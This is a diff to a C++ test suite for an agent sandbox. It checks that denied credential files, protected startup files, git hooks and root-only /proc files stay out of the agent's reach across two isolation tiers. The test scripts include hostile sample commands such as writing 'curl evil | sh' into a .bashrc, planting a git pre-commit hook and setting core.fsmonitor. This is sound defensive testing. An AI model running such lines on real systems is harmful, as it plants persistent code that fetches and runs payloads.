@@ -10,9 +10,13 @@
 #include <QtTest>
 
 #include <filesystem>
+#include <string>
+#include <utility>
+#include <vector>
 
 #include "tests/app/cli/cli_home.h"
 #include "tests/support/process_runner.h"
+#include "tests/support/skip.h"
 #include "tests/support/test_util.h"
 
 using namespace paddock::test;
@@ -23,15 +27,46 @@ class RunBoundaryTest : public QObject {
 
   CliHome h_;
 
+  std::string tier_;  // the row's: "namespaces", or "landlock" (run with --tier landlock)
+
   void setup_row(const std::string& home_name = "home", const std::string& project_name = "proj") {
     QFETCH(uint, uid);
+    QFETCH(QString, tier);
+    tier_ = tier.toStdString();
     QVERIFY(h_.create(uid, "bound", {"PADDOCK_SYSTEM_DIR", "PADDOCK_FORCE_TIER"}, home_name, project_name));
+  }
+
+  // Every case in both Linux tiers, each as root and as uid 65534 (or this uid when not root).
+  static void add_rows() {
+    QTest::addColumn<uint>("uid");
+    QTest::addColumn<QString>("tier");
+    std::vector<std::pair<std::string, uint>> users;
+    if (::geteuid() == 0) {
+      users = {{"root", 0u}, {"uid65534", 65534u}};
+    } else {
+      record_skip(SkipFact::kUser, "the suite runs as uid " + std::to_string(::geteuid()) + ", not root", {}, "root");
+      users = {{"uid" + std::to_string(::geteuid()), static_cast<uint>(::geteuid())}};
+    }
+    for (const char* tier : {"namespaces", "landlock"})
+      for (const auto& [name, uid] : users)
+        QTest::newRow((name + (std::string(tier) == "landlock" ? "-landlock" : "")).c_str()) << uid << QString(tier);
   }
 
   void user_policy(const std::string& yaml) { put(h_.root + "/config/paddock/policy.yaml", yaml); }
 
+  // Where the agent writes a new file in `root` (a write root) to show that writing still works:
+  // its top in the namespace tier; in the landlock tier, whose carving leaves the directories
+  // above a protected path closed to new entries (docs/capabilities.md, fs.deny.inside_write_root),
+  // a directory below the top, made here.
+  std::string fresh(const std::string& root, const std::string& name) {
+    if (tier_ != "landlock") return name;
+    fs::create_directories(root + "/work");
+    return "work/" + name;
+  }
+
   ProcessResult run_sh(const std::string& script, const std::vector<std::string>& flags = {}) {
     std::vector<std::string> argv = {paddock_bin(), "run"};
+    if (tier_ == "landlock") argv.insert(argv.end(), {"--tier", "landlock", "--net", "off"});
     argv.insert(argv.end(), flags.begin(), flags.end());
     argv.insert(argv.end(), {"--", "sh", "-c", script});
     return run_process(argv, h_.opts);
@@ -53,7 +88,7 @@ class RunBoundaryTest : public QObject {
   // A user layer that reads ~/.ssh and ~/.config/gh (both denied by the profile's credential
   // lists), and writes ~/.npm/_logs inside its own deny of ~/.npm: explain says each is denied,
   // and so must the sandbox.
-  void a_deny_beats_every_allow_in_the_sandbox_as_explain_says_data() { add_uid_rows(); }
+  void a_deny_beats_every_allow_in_the_sandbox_as_explain_says_data() { add_rows(); }
   void a_deny_beats_every_allow_in_the_sandbox_as_explain_says() {
     setup_row();
     put(h_.home + "/.ssh/id_ed25519", "SECRET-SSH\n");
@@ -77,24 +112,28 @@ class RunBoundaryTest : public QObject {
 
   // A denied path that does not exist yet cannot be created in a write root, as a write-protected
   // one cannot; nothing of the protection is left once the session is over.
-  void an_absent_denied_path_cannot_be_created_data() { add_uid_rows(); }
+  void an_absent_denied_path_cannot_be_created_data() { add_rows(); }
   void an_absent_denied_path_cannot_be_created() {
     setup_row();
     user_policy("version: 1\nfilesystem:\n  deny: [\"$PROJECT/secret.txt\", \"$PROJECT/vault/key\"]\n"
                 "  deny_write: [\"$PROJECT/protected.txt\"]\n");
+    const std::string other = fresh(h_.project, "other.txt");
     h_.chown_all();
     auto r = run_sh("echo x > secret.txt && echo made-secret; mkdir -p vault && echo x > vault/key && echo made-key; "
                     "echo x > protected.txt && echo made-protected; rm -f secret.txt && echo removed; "
-                    "echo ok > other.txt && echo wrote; cat secret.txt 2>/dev/null; true");
+                    "echo ok > " + other + " && echo wrote; echo ok > top.txt && echo top-wrote; "
+                    "cat secret.txt 2>/dev/null; true");
     QVERIFY2(r.exit_code == 0 && r.out.find("wrote") != std::string::npos, dump(r));
     QVERIFY2(r.out.find("made-") == std::string::npos, dump(r));
+    // The landlock tier's loss, exactly: nothing new at the top, above the protected paths.
+    QVERIFY2((r.out.find("top-wrote") != std::string::npos) == (tier_ != "landlock"), dump(r));
     for (const char* gone : {"/secret.txt", "/vault", "/protected.txt"})
       QVERIFY2(!fs::exists(fs::symlink_status(h_.project + gone)), (h_.project + gone).c_str());
   }
 
   // The profile's lists of files your tools run, secrets and git metadata cover a second write
   // root as they cover the project.
-  void the_built_in_protections_cover_every_write_root_data() { add_uid_rows(); }
+  void the_built_in_protections_cover_every_write_root_data() { add_rows(); }
   void the_built_in_protections_cover_every_write_root() {
     setup_row();
     const std::string dir = h_.root + "/other";
@@ -103,10 +142,11 @@ class RunBoundaryTest : public QObject {
     put(dir + "/.env", "SECRET-ENV\n");
     auto init = run_process({"git", "init", "-q", dir + "/repo"});
     QVERIFY2(init.exit_code == 0, dump(init));
+    const std::string file = fresh(dir, "file.txt");
     h_.chown_all();
     auto r = run_sh("cd " + dir + " && { echo evil > .zshrc && echo zsh; echo x > repo/.git/hooks/pre-commit && echo hook; "
                     "cat .env 2>/dev/null; mkdir .vscode && echo vscode; git -C repo config core.fsmonitor x && echo config; "
-                    "echo ok > file.txt && echo wrote; }",
+                    "echo ok > " + file + " && echo wrote; }",
                     {"--allow-write", dir});
     QVERIFY2(r.exit_code == 0 && r.out.find("wrote") != std::string::npos, dump(r));
     for (const char* word : {"zsh", "hook", "SECRET", "vscode", "config"})
@@ -117,7 +157,7 @@ class RunBoundaryTest : public QObject {
 
   // A project and a home whose names hold glob characters: the lists' patterns take them
   // literally, so the project's .env is masked and the git identity the preset grants is read.
-  void a_project_and_home_named_like_globs_stay_literal_data() { add_uid_rows(); }
+  void a_project_and_home_named_like_globs_stay_literal_data() { add_rows(); }
   void a_project_and_home_named_like_globs_stay_literal() {
     setup_row("h[o]me {x}", "[WIP] p*?\\q");
     put(h_.project + "/.env", "SECRET-ENV\n");
@@ -137,16 +177,17 @@ class RunBoundaryTest : public QObject {
   // not yet there to protect) to a file the session write-protects, or to a file inside a
   // protected directory, is protected as the file is: here a .bashrc and VS Code's tasks.json,
   // which your shell and your editor run.
-  void a_hard_link_into_a_protected_file_cannot_rewrite_it_data() { add_uid_rows(); }
+  void a_hard_link_into_a_protected_file_cannot_rewrite_it_data() { add_rows(); }
   void a_hard_link_into_a_protected_file_cannot_rewrite_it() {
     setup_row();
     put(h_.project + "/.bashrc", "echo original\n");
     put(h_.project + "/.vscode/tasks.json", "{}\n");
     fs::create_hard_link(h_.project + "/.bashrc", h_.project + "/notes.txt");
     fs::create_hard_link(h_.project + "/.vscode/tasks.json", h_.project + "/tasks-copy.json");
+    const std::string other = fresh(h_.project, "other.txt");
     h_.chown_all();
     auto r = run_sh("echo 'curl evil | sh' > notes.txt && echo rewrote; echo '{\"evil\":1}' > tasks-copy.json && "
-                    "echo rewrote-tasks; echo ok > other.txt && echo wrote");
+                    "echo rewrote-tasks; echo ok > " + other + " && echo wrote");
     QVERIFY2(r.out.find("wrote") != std::string::npos, dump(r));
     QVERIFY2(r.out.find("rewrote") == std::string::npos, dump(r));
     QCOMPARE(slurp(h_.project + "/.bashrc"), std::string("echo original\n"));
@@ -155,7 +196,7 @@ class RunBoundaryTest : public QObject {
 
   // A condition on the project (here the branch in .git/HEAD, which the agent writes) never lifts
   // a restriction: the layer's deny holds on another branch too, and lint says why.
-  void a_condition_the_agent_controls_never_lifts_a_deny_data() { add_uid_rows(); }
+  void a_condition_the_agent_controls_never_lifts_a_deny_data() { add_rows(); }
   void a_condition_the_agent_controls_never_lifts_a_deny() {
     setup_row();
     auto init = run_process({"git", "init", "-q", "-b", "main", h_.project});
@@ -176,7 +217,7 @@ class RunBoundaryTest : public QObject {
   // be created, by name or by renaming its parent away and making a new one, a protected file
   // cannot be rewritten, and the placeholders that hold the absent names are Paddock's, never a
   // change to review or apply: after `paddock apply` of everything, the host has none of them.
-  void protections_hold_inside_a_review_root_data() { add_uid_rows(); }
+  void protections_hold_inside_a_review_root_data() { add_rows(); }
   void protections_hold_inside_a_review_root() {
     setup_row();
     auto init = run_process({"git", "init", "-q", h_.project});
@@ -189,6 +230,12 @@ class RunBoundaryTest : public QObject {
                 "\"$PROJECT/present-secret.txt\"]\n  deny_write: [\"$PROJECT/protected.txt\", \"$PROJECT/kept.txt\"]\n");
     h_.chown_all();
     const std::string config_before = slurp(h_.project + "/.git/config");
+    if (tier_ == "landlock") {  // the overlay needs a user namespace: refused before the agent starts
+      auto refused = run_sh("echo ok > vault/new.txt", {"--review"});
+      QVERIFY2(refused.exit_code == 125 && refused.err.find("fs.review_roots") != std::string::npos, dump(refused));
+      QVERIFY(!fs::exists(h_.project + "/vault/new.txt"));
+      return;
+    }
     auto r = run_sh("echo x > secret.txt && echo made-secret; echo x > protected.txt && echo made-protected; "
                     "echo x > vault/key && echo made-key; "
                     "mv vault vault-moved && echo moved-vault; mkdir -p vault && echo x > vault/key && echo made-key-2; "
@@ -220,7 +267,7 @@ class RunBoundaryTest : public QObject {
   // /proc is the sandbox's own, but the kernel's files in it are the host's: those only root may
   // read (slabinfo, timer_list, vmallocinfo, ...) must give nothing to an agent, which a root
   // caller's agent is by ownership (uid 0). Every such file the host has is tried from inside.
-  void the_kernels_root_only_proc_files_give_the_agent_nothing_data() { add_uid_rows(); }
+  void the_kernels_root_only_proc_files_give_the_agent_nothing_data() { add_rows(); }
   void the_kernels_root_only_proc_files_give_the_agent_nothing() {
     setup_row();
     h_.chown_all();
@@ -248,6 +295,17 @@ class RunBoundaryTest : public QObject {
     for (const auto& p : root_only) script += "n=$(head -c 64 '" + p + "' 2>/dev/null | wc -c); echo \"" + p + " $n\"; ";
     auto r = run_sh(script + "echo done");
     QVERIFY2(r.exit_code == 0 && r.out.find("done") != std::string::npos, dump(r));
+    QFETCH(uint, uid);
+    if (tier_ == "landlock" && uid == 0) {
+      // The landlock tier's loss for a root caller, as its matrix row says: the agent keeps uid 0,
+      // which owns these files, so inside a read grant they are readable.
+      QVERIFY2(r.out.find("/proc/timer_list 0\n") == std::string::npos, dump(r));
+      auto plan = cli({"plan", "--tier", "landlock", "--net", "off"});
+      QVERIFY2(plan.out.find("the agent keeps uid 0") != std::string::npos &&
+                   plan.out.find("/proc") != std::string::npos,
+               dump(plan));
+      return;
+    }
     for (const auto& p : root_only)
       QVERIFY2(r.out.find(p + " 0\n") != std::string::npos, (p + "\n" + dump(r).toStdString()).c_str());
   }
